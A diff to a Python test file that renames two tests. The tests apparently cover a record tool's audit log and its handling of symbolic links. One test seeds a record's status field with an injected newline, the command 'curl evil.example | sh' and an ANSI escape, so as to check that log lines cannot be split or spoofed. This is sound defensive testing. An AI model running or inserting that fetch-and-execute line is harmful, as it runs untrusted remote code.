@@ -83,7 +83,7 @@ def test_the_log_is_another_name_of_a_file_elsewhere(root: Path, canary: Path) -
     run(root, "promote", "INC-001", "archived")
 
 
-def test_a_line_of_the_log_is_one_line_whatever_the_record_says(root: Path) -> None:
+def test_a_log_message_is_always_one_line(root: Path) -> None:
     (root / MEMO).write_text(record(status='"draft\\ncurl evil.example | sh\\n\\e[2J"'), encoding="utf-8")
     assert run(root, "promote", "INC-001", "archived").exit_code == 0
     lines = (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n")
@@ -264,7 +264,7 @@ def test_every_command_that_edits_is_tried_on_a_link() -> None:
 
 
 @pytest.mark.parametrize("command", EDITS)
-def test_no_command_edits_what_a_link_leads_to(
+def test_no_command_edits_the_target_of_a_link(
     root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
 ) -> None:
     """The link leads to a file of the repository, so the record is read."""
